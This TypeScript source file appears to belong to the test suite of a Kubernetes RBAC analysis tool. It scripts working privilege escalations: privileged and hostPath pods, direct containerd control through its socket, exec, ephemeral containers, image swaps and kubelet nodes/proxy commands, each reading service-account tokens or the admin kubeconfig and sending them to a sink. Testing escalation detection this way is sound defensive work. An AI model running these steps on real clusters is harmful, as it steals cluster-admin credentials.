import { type Has, rules } from '../../__tests__/become/small-world';
import type { Machine } from './machine';
import { image, type PersonOnNode, type Sink, sends, shell } from './person-on-node';

export interface SceneOnNode {
  readonly machine: Machine;
  readonly sink: Sink;
  readonly person: PersonOnNode;
  readonly namespace: string;
}

/** A step of the model that needs a pod or a kubelet. */
export interface Escalation {
  readonly code: string;
  /** The difference from other escalations with the same code. */
  readonly title?: string;
  /** The Pod Security level. @default 'restricted' */
  readonly level?: string;
  open(namespace: string): readonly Has[];
  /** Rights with which the step is refused. @default the same rights, with another level */
  closed?(namespace: string): readonly Has[];
  readonly closedLevel?: string;
  /** Whether a pod already runs as the service account `boss`. @default false */
  readonly victim?: true;
  /** Returns the token of `boss`, or the kubeconfig of an administrator. */
  take(scene: SceneOnNode): Promise<string>;
}

const inside = (namespace: string, ...texts: string[]): Has => ({ namespace, rules: rules(...texts) });
const wide = (...texts: string[]): Has => ({ rules: rules(...texts) });

const tokenFile = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const limited = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } };

/** A pod that every Pod Security level allows. */
export const safePod = (name: string, container: object, more: object = {}): object => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name },
  spec: {
    serviceAccountName: 'boss',
    nodeName: 'node',
    terminationGracePeriodSeconds: 0,
    securityContext: {
      runAsNonRoot: true,
      runAsUser: 1000,
      // The group that owns the socket of containerd. Every Pod Security level allows this group.
      runAsGroup: 0,
      seccompProfile: { type: 'RuntimeDefault' },
    },
    containers: [{ name: 'c', image, securityContext: limited, ...container }],
    ...more,
  },
});

const podsOf = (namespace: string) => `/api/v1/namespaces/${namespace}/pods`;
const strategic = 'application/strategic-merge-patch+json';
/** Rights on nodes that do not lead to other rights. */
const aroundProxy = ['get nodes', 'get nodes/metrics', 'get nodes/stats', 'get nodes/pods', 'list nodes/proxy'];
const tokenIn = (text: string): string => {
  const [token] = /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(text) ?? [];
  if (token === undefined) throw new Error(`no token in: ${text}`);
  return token;
};

/** Starts a container next to those of the kubelet, with programs and libraries of the node. */
const throughContainerd = (name: string) => `busybox cat /host/etc/kubernetes/admin.conf
busybox mkdir /host/tmp/${name}
lib=/host/lib/$(busybox uname -m)-linux-gnu
$lib/ld-linux-x86-64.so.2 --library-path $lib /host/usr/bin/ctr --address /host/run/containerd/containerd.sock \\
  --namespace k8s.io run --detach --null-io --privileged --net-host --rootfs \\
  --mount type=bind,src=/,dst=/host,options=rbind:rw /tmp/${name} ${name} \\
  /host/bin/busybox sh -c 'PATH=/host/bin; ${sends(name, '/host/etc/kubernetes/admin.conf')}'
busybox sleep 3600`;

export const escalations: readonly Escalation[] = [
  {
    code: 'run-pod',
    open: (namespace) => [inside(namespace, 'create pods')],
    closed: (namespace) => [inside(namespace, 'update pods', 'create podtemplates')],
    async take({ person, namespace, sink }) {
      await person.send('POST', podsOf(namespace), safePod('a', { command: shell(sends(person.name, tokenFile)) }));
      return sink.taken(person.name);
    },
  },
  {
    code: 'mount-secret',
    open: (namespace) => [inside(namespace, 'create pods')],
    closed: (namespace) => [inside(namespace, 'list secrets', 'get pods')],
    async take({ machine, person, namespace, sink }) {
      const secret = {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: 'crown', namespace, annotations: { 'kubernetes.io/service-account.name': 'boss' } },
        type: 'kubernetes.io/service-account-token',
      };
      await machine.kubectl('apply --validate=false -f -', JSON.stringify(secret));
      const container = {
        command: shell(sends(person.name, '/crown/token')),
        volumeMounts: [{ name: 'crown', mountPath: '/crown' }],
      };
      const volumes = [{ name: 'crown', secret: { secretName: 'crown' } }];
      const pod = safePod('a', container, { serviceAccountName: 'default', volumes });
      await person.send('POST', podsOf(namespace), pod);
      return sink.taken(person.name);
    },
  },
  ...(['baseline', 'restricted'] as const).map(
    (closedLevel): Escalation => ({
      code: 'privileged-pod',
      title: closedLevel,
      level: 'privileged',
      closedLevel,
      open: (namespace) => [inside(namespace, 'create pods')],
      async take({ person, namespace, sink }) {
        const container = {
          securityContext: { privileged: true },
          command: shell(sends(person.name, '/host/etc/kubernetes/admin.conf')),
          volumeMounts: [{ name: 'host', mountPath: '/host' }],
        };
        const volumes = [{ name: 'host', hostPath: { path: '/' } }];
        const pod = safePod('a', container, { serviceAccountName: 'default', securityContext: {}, volumes });
        await person.send('POST', podsOf(namespace), pod);
        return sink.taken(person.name);
      },
    }),
  ),
  {
    code: 'host-volume',
    open: (namespace) => [
      wide('create persistentvolumes'),
      inside(namespace, 'create pods', 'create persistentvolumeclaims'),
    ],
    closed: (namespace) => [inside(namespace, 'create pods', 'create persistentvolumeclaims')],
    async take({ machine, person, namespace, sink }) {
      const claim = { accessModes: ['ReadWriteOnce'], storageClassName: '' };
      await person.send('POST', '/api/v1/persistentvolumes', {
        apiVersion: 'v1',
        kind: 'PersistentVolume',
        metadata: { name: namespace },
        spec: { ...claim, capacity: { storage: '1Gi' }, hostPath: { path: '/' } },
      });
      await person.send('POST', `/api/v1/namespaces/${namespace}/persistentvolumeclaims`, {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: { name: 'a' },
        spec: { ...claim, volumeName: namespace, resources: { requests: { storage: '1Gi' } } },
      });
      // Wait until the claim is bound. Otherwise, the pod would start only when the kubelet tries again later.
      const bound = '--for=jsonpath={.status.phase}=Bound persistentvolumeclaim/a --timeout=240s';
      await machine.kubectl(`--namespace=${namespace} wait ${bound}`);
      const container = {
        command: shell(throughContainerd(person.name)),
        volumeMounts: [{ name: 'host', mountPath: '/host' }],
      };
      const volumes = [{ name: 'host', persistentVolumeClaim: { claimName: 'a' } }];
      const pod = safePod('a', container, { serviceAccountName: 'default', volumes });
      await person.send('POST', podsOf(namespace), pod);
      return sink.taken(person.name);
    },
  },
  ...(['create', 'get'] as const).map(
    (verb): Escalation => ({
      code: 'exec',
      title: verb,
      victim: true,
      open: (namespace) => [inside(namespace, 'get pods', `${verb} pods/exec`)],
      closed: (namespace) => [inside(namespace, 'get pods', 'create pods/portforward', 'list pods/exec')],
      take: ({ person, namespace }) =>
        person.kubectl(`--namespace=${namespace} exec victim -- /bin/busybox cat ${tokenFile}`),
    }),
  ),
  {
    code: 'debug-container',
    victim: true,
    open: (namespace) => [inside(namespace, 'patch pods/ephemeralcontainers')],
    closed: (namespace) => [inside(namespace, 'patch pods/status', 'get pods/ephemeralcontainers')],
    async take({ person, namespace, sink }) {
      const one = {
        name: 'theirs',
        image,
        targetContainerName: 'c',
        securityContext: limited,
        // The container has no token of its own, but it sees the processes of the other container.
        command: shell(sends(person.name, `/proc/1/root${tokenFile}`)),
      };
      const path = `${podsOf(namespace)}/victim/ephemeralcontainers`;
      await person.send('PATCH', path, { spec: { ephemeralContainers: [one] } }, strategic);
      return sink.taken(person.name);
    },
  },
  {
    code: 'change-image',
    victim: true,
    open: (namespace) => [inside(namespace, 'patch pods')],
    closed: (namespace) => [inside(namespace, 'patch pods/status', 'create pods/eviction')],
    async take({ person, namespace, sink }) {
      const spec = { containers: [{ name: 'c', image: theirImage }] };
      await person.send('PATCH', `${podsOf(namespace)}/victim`, { spec }, strategic);
      return sink.taken('their-image');
    },
  },
  {
    code: 'node-proxy',
    title: 'create',
    victim: true,
    open: () => [wide('create nodes/proxy')],
    closed: () => [wide(...aroundProxy)],
    async take({ person, namespace }) {
      const query = `cmd=${encodeURIComponent(`/bin/busybox cat ${tokenFile}`)}`;
      return tokenIn(await person.send('POST', `/api/v1/nodes/node/proxy/run/${namespace}/victim/c?${query}`));
    },
  },
  {
    code: 'node-proxy',
    title: 'get',
    victim: true,
    open: () => [wide('get nodes/proxy')],
    closed: () => [wide(...aroundProxy)],
    async take({ person, namespace }) {
      // Sent to the kubelet itself, because the API server does not pass on the query of a request that is upgraded.
      const query = `output=1&command=/bin/busybox&command=cat&command=${tokenFile}`;
      return tokenIn(await person.webSocket(`https://node:10250/exec/${namespace}/victim/c?${query}`));
    },
  },
  {
    code: 'read-node',
    title: 'tokens',
    level: 'privileged',
    closedLevel: 'baseline',
    victim: true,
    open: (namespace) => [inside(namespace, 'create pods')],
    async take({ machine, person, namespace, sink }) {
      const uid = await machine.kubectl(`--namespace=${namespace} get pod victim -o jsonpath={.metadata.uid}`);
      const folder = `/pods/${uid}/volumes/kubernetes.io~projected`;
      const container = {
        // The user of the other pod owns the file.
        securityContext: {},
        command: shell(sends(person.name, `${folder}/*/token`)),
        volumeMounts: [{ name: 'pods', mountPath: '/pods' }],
      };
      // It mounts only the kubelet's folder of the node.
      const volumes = [{ name: 'pods', hostPath: { path: '/var/lib/kubelet/pods' } }];
      const more = { serviceAccountName: 'default', securityContext: {}, volumes };
      await person.send('POST', podsOf(namespace), safePod('a', container, more));
      return sink.taken(person.name);
    },
  },
];

/** The image that the actor sets in an existing pod. Its program sends the token of the pod. */
export const theirImage = 'node.example.com/theirs:1';
export const theirProgram = `#!/bin/busybox sh\n${sends('their-image', tokenFile)}\n`;
